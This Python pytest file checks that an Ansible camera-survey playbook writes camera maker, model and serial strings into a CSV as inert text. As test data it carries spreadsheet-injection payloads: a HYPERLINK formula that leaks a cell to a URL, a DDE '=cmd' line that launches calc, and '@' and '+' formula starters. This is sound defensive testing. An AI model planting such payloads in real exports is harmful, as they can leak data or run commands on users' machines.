# Copyright (c) 2026, dukcapil.cctv contributors
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The camera_survey playbook for real, against simulated cameras whose identity holds hostile strings.

A camera reports its maker, model and serial number itself; a spreadsheet that opens the survey
must show them as text in their own cells: no formula, no cell forged by a comma, a quote or a
line break. The CSV is read back with Python's csv module.
"""

from __future__ import annotations

import csv
import glob
import os

import pytest

camsim = pytest.importorskip('camsim', reason='the camera simulator (tools/camsim) is not importable')

pytestmark = pytest.mark.integration

HTTP_PORT = 8000
HOSTILE_MODEL = '=HYPERLINK("http://127.0.0.1/x?leak="&A1,"Click me")'
HOSTILE_MAKER = 'Evil, Inc. "Cams"'
HOSTILE_SERIAL = 'SN-1\n=cmd|\' /C calc\'!A0,x'


@pytest.fixture(scope='module')
def site(free_blocks):
    prefix = free_blocks()[0]
    data = {
        'defaults': {'http_port': HTTP_PORT},
        'cameras': [
            {'name': 'cam-evil', 'vendor': 'generic', 'first_boot': 'factory_account', 'address': prefix + '.10', 'serial': HOSTILE_SERIAL,
             'overrides': {'manufacturer': HOSTILE_MAKER, 'model': HOSTILE_MODEL}},
            {'name': 'cam-plus', 'vendor': 'generic', 'first_boot': 'factory_account', 'address': prefix + '.11',
             'overrides': {'manufacturer': '@SUM(1+1)', 'model': '+1-2\tx'}},
            {'name': 'cam-plain', 'vendor': 'hikvision', 'first_boot': 'profile_q', 'address': prefix + '.12', 'activated': True,
             'password': 'Admin12345'},
        ],
    }
    with camsim.Site.from_dict(data) as running:
        yield running


def test_hostile_identities_stay_inert_text_in_their_own_cells(site, run_playbook, tmp_path):
    """Case 20: RFC 4180 quoting, and = + - @ tab CR at the start of a cell neutralised."""
    hosts = {}
    for name, user, password in (('cam-evil', 'admin', 'admin'), ('cam-plus', 'admin', 'admin'),
                                 ('cam-plain', 'admin', 'Admin12345')):
        cam = site.cameras[name]
        hosts[name] = {'ansible_host': cam.address, 'onvif_port': HTTP_PORT, 'onvif_username': user,
                       'onvif_password': password}
    inventory = {'all': {'hosts': {'localhost': {'ansible_connection': 'local'}},
                         'children': {'cameras': {'hosts': hosts}}}}
    dest = tmp_path / 'survey'
    plays = [{'name': 'Survey', 'ansible.builtin.import_playbook': 'dukcapil.cctv.camera_survey'}]
    played = run_playbook(plays, inventory=inventory, extra_args=['-e', 'camera_survey_dest=%s' % dest])
    assert played.rc == 0, played

    with open(str(dest / 'cameras.csv'), newline='', encoding='utf-8') as stream:
        rows = list(csv.reader(stream))
    assert rows[0] == ['camera', 'maker', 'model', 'serial', 'mac', 'address']
    by_name = dict((row[0], row) for row in rows[1:])
    assert sorted(by_name) == ['cam-evil', 'cam-plain', 'cam-plus'] and len(rows) == 4
    assert all(len(row) == 6 for row in rows)
    evil, plus, plain = by_name['cam-evil'], by_name['cam-plus'], by_name['cam-plain']
    # the text survives whole, prefixed with ' where a spreadsheet would read a formula
    assert evil[1] == HOSTILE_MAKER and evil[2] == "'" + HOSTILE_MODEL and evil[3] == HOSTILE_SERIAL
    assert plus[1] == "'@SUM(1+1)" and plus[2] == "'+1-2\tx"
    cam = site.cameras['cam-plain']
    assert plain[1:] == ['HIKVISION', cam.personality['model'], cam.serial, cam.mac, cam.address]
    # no cell of the file starts a formula
    assert not [cell for row in rows for cell in row if cell[:1] in ('=', '+', '-', '@', '\t', '\r')]


def _plain_inventory(site, **site_vars):
    cam = site.cameras['cam-plain']
    hosts = {'cam-plain': {'ansible_host': cam.address, 'onvif_port': HTTP_PORT, 'onvif_username': 'admin',
                           'onvif_password': 'Admin12345'}}
    return {'all': {'vars': site_vars, 'hosts': {'localhost': {'ansible_connection': 'local'}},
                    'children': {'cameras': {'hosts': hosts}}}}


PLAYS = [{'name': 'Survey', 'ansible.builtin.import_playbook': 'dukcapil.cctv.camera_survey'}]


def test_survey_goes_to_the_runs_folder_by_default_never_into_the_collection(site, run_playbook, tmp_path,
                                                                             collections_path):
    """Issue 13: an installed collection (an execution environment's) is read-only."""
    run_dir = tmp_path / 'run'
    played = run_playbook(PLAYS, inventory=_plain_inventory(site, cctv_run_dir=str(run_dir)))
    assert played.rc == 0, played
    rows = list(csv.reader(open(str(run_dir / 'survey' / 'cameras.csv'), newline='', encoding='utf-8')))
    assert [row[0] for row in rows] == ['camera', 'cam-plain']
    assert not glob.glob(os.path.join(str(collections_path), '**', 'cameras.csv'), recursive=True)


def test_survey_without_a_destination_names_the_variable(site, run_playbook):
    played = run_playbook(PLAYS, inventory=_plain_inventory(site))
    assert played.rc != 0
    assert 'camera_survey_dest' in played.stdout, played
